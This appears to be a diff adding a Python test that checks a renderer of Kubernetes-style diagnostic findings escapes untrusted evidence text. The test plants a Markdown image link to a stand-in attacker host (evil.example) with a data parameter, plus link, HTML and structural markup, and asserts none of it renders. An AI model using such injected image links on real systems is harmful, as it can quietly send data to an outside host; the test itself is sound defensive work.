@@ -86,6 +86,14 @@ def test_the_block_lists_each_finding_with_its_evidence_as_plain_text():
     assert "Readiness probe failing" in rendered and "Pod shop/web-1" in rendered and "warning" in rendered
 
 
+def test_evidence_from_the_cluster_cannot_make_images_links_or_structure():
+    planted = "![x](http://evil.example/p.png?d=1) [click](http://evil.example) <img src=x> | a | b |"
+    block = diagnosis.render([finding([planted, "# not a heading", "---", "* not a list"])])
+    kinds = {t.type for t in tokens(block)}
+    assert not kinds & {"image", "link_open", "html_inline", "html_block", "heading_open", "hr", "table_open"}
+    assert planted in text(block)
+
+
 def test_no_block_without_findings_and_a_bounded_one_with_many():
     assert diagnosis.render([]) == ""
     many = [finding([f"evidence {i}-{j}" for j in range(9)], title=f"finding {i}") for i in range(8)]
